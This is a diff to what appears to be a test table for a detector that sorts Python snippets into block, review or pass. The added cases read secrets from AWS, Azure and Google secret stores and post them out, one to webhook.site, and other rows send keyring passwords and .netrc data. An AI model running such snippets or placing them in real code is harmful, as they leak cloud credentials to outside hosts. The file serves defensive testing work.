@@ -28,6 +28,31 @@ describe.each([
         `try:\n    ${POST}json={"p": keyring.get_password("a", "b")})\nexcept Exception: pass`,
         'block',
       ],
+      [
+        'a secret of the cloud',
+        `s = boto3.client("secretsmanager").get_secret_value(SecretId="a")["SecretString"]\n${POST}data=s)`,
+        'review',
+      ],
+      [
+        'a secret of the cloud, for anybody',
+        `s = boto3.client("secretsmanager").get_secret_value(SecretId="a")["SecretString"]\nrequests.post("https://webhook.site/x", data=s)`,
+        'block',
+      ],
+      [
+        'a secret of a vault',
+        `from azure.keyvault.secrets import SecretClient\n${POST}data=SecretClient(url, who).get_secret("a").value)`,
+        'review',
+      ],
+      [
+        'a secret of another cloud',
+        `from google.cloud import secretmanager\nc = secretmanager.SecretManagerServiceClient()\n${POST}data=c.access_secret_version(name="a").payload.data)`,
+        'review',
+      ],
+      [
+        'a secret of the cloud, as who one is',
+        `s = boto3.client("secretsmanager").get_secret_value(SecretId="a")["SecretString"]\n${POST}json={}, headers={"Authorization": s})`,
+        'pass',
+      ],
       ['all of .netrc', `${POST}json=netrc.netrc().hosts)`, 'review'],
       [
         '.netrc for its host',
